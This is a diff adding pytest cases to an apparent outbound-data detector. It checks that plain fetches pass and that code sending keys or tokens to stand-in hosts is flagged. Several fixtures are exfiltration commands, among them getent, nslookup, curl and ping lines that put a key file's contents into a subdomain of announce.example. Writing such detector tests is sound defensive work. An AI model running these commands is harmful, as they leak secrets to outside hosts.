@@ -6,6 +6,7 @@ import pytest
 from support import evidence as e
 
 from pytest_saber.model.state import Process
+from pytest_saber.model.task import Scope
 
 LOOP = Process(7, 1, 1000, ("sh", "bin/nightcopy"), start=70)
 
@@ -67,3 +68,53 @@ def test_a_file_name_in_program_text_is_no_host(code: str) -> None:
 )
 def test_a_host_in_program_text_is_found(code: str) -> None:
     assert e.properties(e.verdict(f"python3 - <<'END'\n{code}\nEND")) == ["outbound"]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import json, urllib.request as u; data = json.load(u.urlopen('https://docs.example.net/a.json'))",
+        "import requests; files = requests.get('https://docs.example.net/', headers={'Accept': 'text/html'}).text",
+        "import sqlite3, requests; sqlite3.connect('a.db'); requests.get('https://docs.example.net/a')",
+        "import urllib3; http = urllib3.PoolManager(); http.request('GET', 'https://docs.example.net/')",
+        "from urllib.request import Request, urlopen; urlopen(Request('https://docs.example.net/', headers={'A': 'b'}))",
+        "# requests.post('https://docs.example.net/')\nprint('https://docs.example.net/')",
+    ],
+)
+def test_program_text_that_only_fetches_sends_nothing(code: str) -> None:
+    assert not e.verdict(f"python3 - <<'END'\n{code}\nEND").findings
+
+
+@pytest.mark.parametrize(
+    ("program", "code"),
+    [
+        ("python3", "import requests; requests.get('https://files.example.net/?k=' + open('k').read())"),
+        ("python3", "import requests; requests.get(f'https://files.example.net/{token}')"),
+        ("python3", "import requests; requests.get('https://files.example.net/', params={'k': open('k').read()})"),
+        ("python3", "import requests; requests.get('https://files.example.net/', headers={'X-Key': f'{key}'})"),
+        ("python3", "import urllib.request as u; u.urlopen(u.Request('https://files.example.net/', body))"),
+        ("node", "fetch(`https://files.example.net/?k=${key}`)"),
+        ("node", "fetch('https://files.example.net/', {method: 'POST', body: key})"),
+        ("node", "const q = require('https').request('https://files.example.net/'); https.request(q).end(key)"),
+        ("ruby", "Net::HTTP.post(URI('https://files.example.net/'), key)"),
+        ("php", "curl_setopt($c, CURLOPT_URL, 'https://files.example.net/'); curl_setopt($c, CURLOPT_POSTFIELDS, $k);"),
+    ],
+)
+def test_data_that_goes_with_a_request_is_sent(program: str, code: str) -> None:
+    assert e.properties(e.verdict(f"{program} <<'END'\n{code}\nEND")) == ["outbound"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'getent hosts "$(cut -c1-48 etc/b.psk).announce.example"',
+        "nslookup `cut -c1-48 etc/b.psk`.announce.example",
+        'curl -s "$(tr -d / < etc/b.psk).announce.example/x"',
+        'curl -s "http://u@$(python3 -c "print(open(1))").announce.example:80/x"',
+        'K=$(cut -c1-48 etc/b.psk); ping -c1 "${K}.announce.example"',
+    ],
+)
+def test_the_fixed_part_of_a_computed_host_name_is_its_host(command: str) -> None:
+    (finding,) = e.verdict(command).findings
+    assert finding.message.startswith("Data was to be sent to announce.example, which")
+    assert not e.verdict(command, scope=Scope(hosts=("announce.example",))).findings
